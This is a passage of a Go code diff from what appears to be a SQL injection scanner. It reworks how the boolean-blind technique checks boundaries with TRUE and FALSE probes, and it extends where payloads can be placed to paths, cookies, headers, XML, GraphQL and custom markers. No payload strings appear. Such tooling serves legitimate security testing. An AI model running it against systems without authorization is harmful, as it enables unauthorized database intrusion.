+
+// Outcomes of checkBoundary.
+const (
+	boundaryFails = iota
+	boundaryWorks
+	boundarySamePage // TRUE and FALSE both matched the baseline
+)
+
+// checkBoundary sends one TRUE and one FALSE probe with bp.
+func (b *BooleanBlind) checkBoundary(ctx context.Context, req *technique.InjectionRequest, bp boundaryPair) int {
+	trueCondition, falseCondition := probeConditions(req.Parameter.Type, bp.prefix)
 
-		return bp.prefix, bp.suffix, nil
+	trueMatch, _, err := b.sendBooleanProbe(ctx, req, trueCondition, bp)
+	if err != nil || !trueMatch {
+		return boundaryFails
 	}
 
-	return "", "-- -", fmt.Errorf("no working boundary found")
+	falseMatch, _, err := b.sendBooleanProbe(ctx, req, falseCondition, bp)
+	if err != nil {
+		return boundaryFails
+	}
+	if falseMatch {
+		return boundarySamePage
+	}
+	return boundaryWorks
 }
 
 // probeConditions returns the TRUE and FALSE conditions appropriate for the
@@ -330,46 +852,63 @@ func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, paylo
 		}
 	}
 
+	payloadStr = param.Encode(payloadStr)
 	switch param.Location {
 	case engine.LocationQuery:
 		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
 	case engine.LocationBody:
 		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
+	case engine.LocationPath:
+		req.URL = reqparam.SetPath(target.URL, param.Name, payloadStr)
+	case engine.LocationCookie:
+		req.Cookies = reqparam.SetCookie(req.Cookies, param.Name, payloadStr)
+	case engine.LocationHeader:
+		req.Headers = reqparam.SetHeader(req.Headers, param.Name, payloadStr)
+	case engine.LocationXML:
+		req.Body = modifyXMLParam(target.Body, param.Name, payloadStr, target.RawXML)
+	case engine.LocationGraphQL:
+		req.Body = modifyGraphQLParam(target.Body, param.Name, payloadStr)
+	case engine.LocationCustom:
+		target.Markers.Apply(req, map[string]string{param.Name: payloadStr})
 	}
 
 	return req
 }
 
-// modifyQueryParam replaces the value of a named query parameter in the URL.
+// modifyQueryParam replaces the value of a named query parameter in the URL,
+// leaving the order and encoding of the other parameters as they were.
 func modifyQueryParam(rawURL, paramName, newValue string) string {
 	parsed, err := url.Parse(rawURL)
 	if err != nil {
 		return rawURL
 	}
-	q := parsed.Query()
-	q.Set(paramName, newValue)
-	parsed.RawQuery = q.Encode()
+	parsed.RawQuery = rawquery.Set(parsed.RawQuery, paramName, newValue)
 	return parsed.String()
 }
 
 // modifyBodyParam replaces the value of a named parameter in a
-// application/x-www-form-urlencoded body.
+// application/x-www-form-urlencoded body, leaving the order and encoding
+// of the other parameters as they were.
 func modifyBodyParam(body, paramName, newValue string) string {
-	values, err := url.ParseQuery(body)
+	return rawquery.Set(body, paramName, newValue)
+}
+
+// modifyXMLParam replaces the text of the leaf element at path in an XML
+// body, leaving the body unchanged when there is none.
+func modifyXMLParam(body, path, newValue string, raw bool) string {
+	modified, err := xmlbody.Set(body, path, newValue, raw)
 	if err != nil {
 		return body
 	}
-	values.Set(paramName, newValue)
-	return values.Encode()
+	return modified
 }
 
-// findDBMS returns a DBMS implementation by name. If the name is empty or
-// unknown, it falls back to MySQL as a reasonable default.
-func findDBMS(name string) dbms.DBMS {
-	d := dbms.Registry(name)
-	if d == nil {
-		// Fallback to MySQL syntax, which is common.
-		d = dbms.Registry("MySQL")
+// modifyGraphQLParam sets the named variable of a GraphQL request body,
+// leaving the body unchanged when there is none.
+func modifyGraphQLParam(body, path, newValue string) string {
+	modified, err := graphql.Set(body, path, newValue)
+	if err != nil {
+		return body
 	}
-	return d
+	return modified
 }